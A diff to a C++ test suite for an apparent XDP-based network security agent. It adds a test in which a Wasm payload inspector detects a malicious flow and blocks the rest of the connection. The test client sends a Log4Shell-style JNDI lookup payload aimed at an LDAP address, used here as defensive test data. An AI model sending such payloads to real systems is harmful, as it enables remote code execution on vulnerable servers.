@@ -145,13 +145,16 @@ class XdpNetns : public ::testing::Test {
   // waits until it says it is detecting. Alerts go to alerts_, messages to log_.
   bool start_agent(const std::string& config, const std::string& rule_query,
                    const std::string& actions) {
+    return start_agent_with(config,
+                            "id: xdp-test-rule\nname: XDP test rule\ntype: eql\nseverity: "
+                            "high\nquery: '" +
+                                rule_query + "'\n" + actions);
+  }
+  bool start_agent_with(const std::string& config, const std::string& rule_yaml) {
     dir_ = "/tmp/wsn-xdp-agent-" + std::to_string(getpid());
     std::filesystem::create_directories(dir_ + "/rules");
     std::ofstream(dir_ + "/config.yml") << config;
-    std::ofstream(dir_ + "/rules/r.yml")
-        << "id: xdp-test-rule\nname: XDP test rule\ntype: eql\nseverity: high\nquery: '"
-        << rule_query << "'\n"
-        << actions;
+    std::ofstream(dir_ + "/rules/r.yml") << rule_yaml;
     alerts_ = dir_ + "/alerts.jsonl";
     log_ = dir_ + "/run.err";
     agent_ = fork();
@@ -344,6 +347,50 @@ TEST_F(XdpNetns, HostRuleBlockActionStopsTheConnection) {
          "python3 -c \"import socket\nsocket.create_connection(('10.201.0.1',4444),timeout=1.5)\"");
   EXPECT_NE(again.rc, 0);
   std::filesystem::remove("/tmp/wsn-xdp-audit-" + std::to_string(getpid()) + ".jsonl");
+}
+
+TEST_F(XdpNetns, InspectorDropVerdictBlocksTheRestOfTheFlow) {
+  // Port 9300 is inspected; the SDK's payload-signature inspector (Wasm) sees the first packets
+  // of each flow, and its alert carries `block` (scope port): the client's later data to 9300
+  // dies in the driver.
+  const std::string module = std::string(WSN_SDK_OUT) + "/c_payload_signature.wasm";
+  const std::string config =
+      "sources:\n  ebpf:\n    enabled: false\n  xdp:\n    enabled: true\n    pin_dir: " + pin_ +
+      "\n    interfaces: [" + vb_ +
+      "]\n    rules:\n      - --id 30 --proto tcp --dport 9300 --action inspect\n"
+      "actions:\n  block:\n    pin_dir: " +
+      pin_ +
+      "\n    scope: port\n    ttl: 60s\n"
+      "http:\n  enabled: false\nresponse:\n  audit_log: '-'\n";
+  ASSERT_TRUE(start_agent_with(config,
+                               "id: inspector.payload\nname: Exploit payload (inspector)\n"
+                               "type: wasm\nseverity: critical\nmodule: " +
+                                   module + "\nactions: [block]\n"));
+  // The server collects what arrives on one connection for 5 s.
+  std::string received = "/tmp/wsn-netns-" + std::to_string(getpid()) + "-recv";
+  std::ofstream(dir_ + "/server.py")
+      << "import "
+         "socket,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
+         "s.bind(('0.0.0.0',9300));s.listen(1);s.settimeout(5)\nc,_=s.accept();c.settimeout(0.2)\n"
+         "got=b'';end=time.time()+5\nwhile time.time()<end:\n  try:\n    d=c.recv(4096)\n"
+         "    if not d: break\n    got+=d\n  except socket.timeout: pass\n"
+         "open('"
+      << received << "','wb').write(got)\n";
+  sh(in(b_) + "python3 " + dir_ + "/server.py >/dev/null 2>&1 &");
+  usleep(500000);
+  // (a file: the payload's ${…} must not meet a shell)
+  std::ofstream(dir_ + "/client.py")
+      << "import socket,time\ns=socket.create_connection(('10.201.0.2',9300),timeout=2)\n"
+         "s.sendall(b'GET /?q=${jndi:ldap://198.51.100.9/a} "
+         "HTTP/1.1\\r\\n\\r\\n')\ntime.sleep(1.5)\n"
+         "s.sendall(b'AFTER-THE-VERDICT')\ntime.sleep(1)\n";
+  sh(in(a_) + "python3 " + dir_ + "/client.py");
+  std::string got = read_file(received);
+  EXPECT_NE(got.find("jndi"), std::string::npos) << got;               // the first packet passed
+  EXPECT_EQ(got.find("AFTER-THE-VERDICT"), std::string::npos) << got;  // the rest was dropped
+  EXPECT_TRUE(alert_with("inspector.payload", 5)) << slurp(log_);
+  EXPECT_NE(slurp(log_).find("\"result\":\"blocked\""), std::string::npos) << slurp(log_);
+  std::filesystem::remove(received);
 }
 
 }  // namespace
